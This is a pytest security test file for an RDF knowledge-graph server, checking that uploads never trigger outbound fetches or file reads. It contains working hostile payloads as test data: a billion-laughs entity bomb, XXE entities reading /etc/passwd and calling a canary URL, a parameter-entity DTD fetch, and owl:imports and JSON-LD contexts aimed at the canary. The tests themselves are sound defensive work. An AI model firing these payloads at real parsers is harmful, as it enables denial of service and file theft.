"""Hostile input (issue 7, part 3): property-based and adversarial requests to every endpoint
and to the CLI. Nothing answers 5xx or hangs, nothing changes without a valid token, no file
outside the data dir is read, and no request leaves the host: SERVICE, LOAD, owl:imports,
remote JSON-LD contexts and XML entities aimed at a canary listener on loopback never reach
it. Related tests elsewhere: tests/test_api_rest.py (hostile search strings, ids, invalid
UTF-8, traversal), tests/test_sparql_limits.py (SERVICE refusal and look-alikes),
tests/test_editing.py (LOAD/SERVICE in updates, malformed and oversized writes),
tests/test_suggest.py (hostile suggestion bodies), tests/test_api_contract.py (schemathesis).
"""

from __future__ import annotations

import json
import time

import pytest
from conftest import start_server
from rdflib import OWL, RDF, Graph, URIRef
from test_hardening_common import ALICE, TOKENS, call, canary, fingerprint

from kb.reasoning import infer


def test_the_reasoner_never_follows_owl_imports():
    """owlready2 loads owl:imports: a write with one made the validator fetch the URL (or
    read a local file). The graph handed to HermiT has no imports."""
    with canary() as listener:
        graph = Graph()
        onto = URIRef("https://w3id.org/hairkg/ontology")
        graph.add((onto, RDF.type, OWL.Ontology))
        graph.add((onto, OWL.imports, URIRef(listener.url + "/imported.ttl")))
        graph.add((onto, OWL.imports, URIRef("file:///etc/passwd")))
        graph.add((URIRef("https://example.org/A"), RDF.type, OWL.Class))
        result = infer(graph)
        assert result.consistent, result.explanation
        assert listener.hits == []


# -- a server that takes writes -----------------------------------------------------------


@pytest.fixture(scope="module")
def target(tmp_path_factory, release_dir):
    running = start_server(
        tmp_path_factory.mktemp("hostile"),
        release_dir=release_dir,
        env={
            "HAIRKG_TOKENS": TOKENS,
            "HAIRKG_TOKENS_FILE": "",
            "HAIRKG_WRITE_VALIDATION": "shapes",
            "HAIRKG_RATE_LIMIT": "off",
        },
    )
    yield running
    running.stop()


def billion_laughs(levels: int = 9) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for i in range(1, levels + 1):
        entities.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return (
        '<?xml version="1.0"?><!DOCTYPE rdf:RDF [' + "".join(entities) + "]>"
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:ex="http://example.org/"><rdf:Description rdf:about="http://example.org/b">'
        f"<ex:p>&lol{levels};</ex:p></rdf:Description></rdf:RDF>"
    ).encode()


def test_xml_entities_in_rdf_xml_uploads_are_refused(target):
    """Billion laughs took a worker to 14 GB before entity declarations were refused; external
    entities (a file, the canary) are never resolved."""
    before = fingerprint(target.url)
    with canary() as listener:
        external = (
            '<?xml version="1.0"?><!DOCTYPE rdf:RDF [<!ENTITY file SYSTEM "file:///etc/passwd">'
            f'<!ENTITY net SYSTEM "{listener.url}/xxe">]>'
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns:ex="http://example.org/"><rdf:Description rdf:about="http://example.org/a">'
            "<ex:p>&file;</ex:p><ex:q>&net;</ex:q></rdf:Description></rdf:RDF>"
        ).encode()
        parameter = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "' + (
            listener.url.encode() + b'/dtd">%p;]><r/>'
        )
        for body in (billion_laughs(), external, parameter):
            started = time.monotonic()
            status, _, answer = call(
                target.url,
                "PUT",
                "/store?graph=urn:x-test:xml",
                body,
                ALICE,
                "application/rdf+xml",
                timeout=30,
            )
            assert status == 400, answer
            assert b"ENTITY" in answer
            assert time.monotonic() - started < 5
        assert listener.hits == []
    assert b"root:" not in answer
    assert fingerprint(target.url) == before


def test_remote_json_ld_contexts_are_not_fetched(target):
    before = fingerprint(target.url)
    with canary() as listener:
        document = {"@context": listener.url + "/context.jsonld", "@id": "http://example.org/c"}
        status, _, answer = call(
            target.url,
            "PUT",
            "/store?graph=urn:x-test:jsonld",
            json.dumps(document),
            ALICE,
            "application/ld+json",
        )
        assert status == 400, answer
        assert listener.hits == []
    assert fingerprint(target.url) == before
